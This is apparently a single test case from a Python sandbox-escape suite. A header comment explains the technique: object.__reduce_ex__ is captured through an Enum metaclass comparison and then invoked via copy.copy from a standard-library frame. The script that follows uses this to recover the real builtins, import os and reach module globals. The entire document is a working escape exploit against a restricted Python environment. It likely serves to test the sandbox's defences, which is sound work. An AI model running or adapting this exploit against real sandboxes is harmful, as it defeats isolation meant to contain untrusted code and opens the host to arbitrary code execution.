# technique: object.__reduce_ex__ (captured through EnumType.__new__'s `found_method in (...)` comparison, as in case 382) is refused only when the *immediate* Python caller is user code; handing it to copy.copy as the reconstructor of a user object's __reduce_ex__ makes copy._reconstruct (stdlib frame) call it and return its result: the real __dict__ of a functools.partial holding print.__self__ (real builtins)
# expect: any
import enum, functools, copy, json
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]
p = functools.partialmethod(staticmethod(print)).__get__(None, object)
try:
    red(p, 2)
except Exception as e:
    print("direct:", type(e).__name__, e)
Tramp = type("Tramp", (), {"__reduce_ex__": lambda self, proto: (red, (p, 2))})
rv = copy.copy(Tramp())          # copy._reconstruct calls red(p, 2) from a stdlib frame
bi = rv[2][3]["__self__"]
print(type(bi), bi)
g = bi.getattr(json.dumps, "__globals__")
print(bi.getattr(bi, "__import__")("os"), g["codecs"])
